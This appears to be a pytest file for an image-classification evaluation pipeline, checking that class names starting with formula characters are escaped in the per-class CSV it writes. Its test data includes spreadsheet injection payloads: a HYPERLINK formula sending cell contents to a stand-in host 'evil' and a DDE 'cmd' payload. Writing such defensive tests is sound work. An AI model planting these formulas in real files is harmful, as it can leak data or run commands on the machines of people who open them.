"""What the pipeline writes stays safe to open and private when asked (issue 26, item 8): class names
from a dataset cannot run as spreadsheet formulas."""

import csv

import pandas as pd
import torch

from rectrain import evaluate

NAMES = ['=HYPERLINK("http://evil/?"&A1,"x")', "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(A1)", "tench"]


def test_class_names_that_start_a_formula_are_written_as_text_in_per_class_csv(tmp_path):
    classes = pd.DataFrame({"label": [str(i) for i in range(5)], "wnid": ["=w", "n1", "n2", "n3", "n4"], "name": NAMES})
    confusion = torch.eye(5, dtype=torch.long) * 3
    confusion[0, 1] = 1
    evaluate.write_outputs(tmp_path, {"top1": 0.9}, evaluate.per_class(confusion, classes))
    with open(tmp_path / "per_class.csv", newline="") as fh:
        rows = list(csv.DictReader(fh))
    assert [row["name"] for row in rows] == ["'" + name for name in NAMES[:4]] + ["tench"]
    assert rows[0]["wnid"] == "'=w" and rows[1]["most_confused_wnid"] == ""
    assert rows[0]["most_confused_wnid"] == "n1" and rows[0]["accuracy"] == "0.75" and rows[0]["images"] == "4"
